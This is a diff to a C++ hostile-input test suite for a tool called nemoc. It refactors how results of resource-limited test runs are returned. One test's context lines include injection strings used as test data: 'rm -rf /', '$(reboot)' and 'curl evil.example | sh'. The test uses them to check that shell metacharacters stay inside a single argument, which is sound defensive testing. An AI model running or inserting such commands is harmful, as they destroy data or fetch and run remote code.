@@ -589,10 +589,6 @@ State Capture(const Sandbox& box) {
 // ---------------------------------------------------------------------------
 // Running nemoc.
 
-struct Timed {
-  RunResult result;
-};
-
 #if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
 #define NEMOC_HOSTILE_SANITIZED 1
 #elif defined(__has_feature)
@@ -611,7 +607,7 @@ constexpr bool kLimitAddressSpace = true;
 
 // Runs nemoc in `cwd` with a CPU and address-space ceiling (inherited through
 // fork), so that a runaway case fails instead of taking the machine down.
-Timed RunLimited(const std::vector<std::string>& args, const std::string& cwd) {
+RunResult RunLimited(const std::vector<std::string>& args, const std::string& cwd) {
   rlimit cpu_before{}, as_before{};
   getrlimit(RLIMIT_CPU, &cpu_before);
   getrlimit(RLIMIT_AS, &as_before);
@@ -620,11 +616,10 @@ Timed RunLimited(const std::vector<std::string>& args, const std::string& cwd) {
   as.rlim_cur = std::min<rlim_t>(as_before.rlim_max, rlim_t{4} << 30);
   setrlimit(RLIMIT_CPU, &cpu);
   if (kLimitAddressSpace) setrlimit(RLIMIT_AS, &as);
-  Timed t;
-  t.result = RunNemoc(args, cwd);
+  RunResult r = RunNemoc(args, cwd);
   if (kLimitAddressSpace) setrlimit(RLIMIT_AS, &as_before);
   setrlimit(RLIMIT_CPU, &cpu_before);
-  return t;
+  return r;
 }
 
 // Shows bytes safely: control characters and invalid bytes become \xNN.
@@ -673,9 +668,8 @@ bool HasDiagnostic(const std::string& err, const std::string& prefix, const std:
 }
 
 // Checks that apply to every run (one spec or many).
-void CommonViolations(const Timed& t, const State& before, const State& after,
+void CommonViolations(const RunResult& r, const State& before, const State& after,
                       std::vector<std::string>* problems) {
-  const RunResult& r = t.result;
   auto add = [&](const std::string& p) { problems->push_back(p); };
   if (r.exit_code != 1) add("exit code " + std::to_string(r.exit_code) + ", expected 1");
   if (!r.out.empty()) add("stdout is not empty:\n" + Printable(r.out, 500));
@@ -793,12 +787,12 @@ TEST_P(HostileInput, IsRefusedCleanly) {
     args.push_back(c.set);
   }
   args.push_back(spec);
-  const Timed t = RunLimited(args, box.root());
+  const RunResult r = RunLimited(args, box.root());
 
   std::vector<std::string> problems;
-  ExpectationViolations(t.result.err, spec, c, &problems);
-  CommonViolations(t, before, Capture(box), &problems);
-  Report(c.name, problems, t.result.err);
+  ExpectationViolations(r.err, spec, c, &problems);
+  CommonViolations(r, before, Capture(box), &problems);
+  Report(c.name, problems, r.err);
 }
 
 INSTANTIATE_TEST_SUITE_P(Corpus, HostileInput, ::testing::ValuesIn(AllCases()),
@@ -847,29 +841,29 @@ void RunAllInOne(bool include_known_bugs, const std::string& name) {
   const State before = Capture(box);
   std::vector<std::string> args = {"build", "--out", box.out()};
   for (const auto& [c, spec] : runs) args.push_back(spec);
-  const Timed t = RunLimited(args, box.root());
+  const RunResult r = RunLimited(args, box.root());
   std::printf("[ all-in-one ] %zu specs in one nemoc run, %zu bytes on stderr\n", runs.size(),
-              t.result.err.size());
+              r.err.size());
 
   std::vector<std::string> problems;
   for (const auto& [c, spec] : runs) {
     std::vector<std::string> missing;
-    ExpectationViolations(t.result.err, spec, c, &missing);
+    ExpectationViolations(r.err, spec, c, &missing);
     for (const auto& m : missing) problems.push_back(c.name + ": " + m);
   }
   // "N errors" counts at least one error per spec.
-  size_t count_at = t.result.err.rfind(" error");
-  size_t line_start = count_at == std::string::npos ? 0 : t.result.err.rfind('\n', count_at);
+  size_t count_at = r.err.rfind(" error");
+  size_t line_start = count_at == std::string::npos ? 0 : r.err.rfind('\n', count_at);
   line_start = line_start == std::string::npos ? 0 : line_start + 1;
   const long errors = count_at == std::string::npos
                           ? 0
-                          : std::strtol(t.result.err.c_str() + line_start, nullptr, 10);
+                          : std::strtol(r.err.c_str() + line_start, nullptr, 10);
   if (errors < static_cast<long>(runs.size())) {
     problems.push_back("the summary counts " + std::to_string(errors) + " errors for " +
                        std::to_string(runs.size()) + " specs");
   }
-  CommonViolations(t, before, Capture(box), &problems);
-  Report(name, problems, t.result.err);
+  CommonViolations(r, before, Capture(box), &problems);
+  Report(name, problems, r.err);
 }
 
 TEST(HostileCorpus, AllSpecsInOneRun) { RunAllInOne(false, "AllSpecsInOneRun"); }
@@ -891,9 +885,7 @@ TEST(HostileOverrides, ShellMetacharactersInValuesStayOneArgvEntry) {
                                   "        - 'trainer.x=1; rm -rf /'\n"
                                   "        - 'trainer.y=$(reboot)'\n"
                                   "        - 'trainer.z=`reboot` && curl evil.example | sh'\n"));
-  RunResult r =
-      RunLimited({"build", "--quiet", "--out", scratch.path() + "/out", spec}, scratch.path())
-          .result;
+  RunResult r = RunLimited({"build", "--quiet", "--out", scratch.path() + "/out", spec}, scratch.path());
   ASSERT_EQ(0, r.exit_code) << r.err;
   // The job's file name carries a content hash (k8s.contentName).
   std::string job;
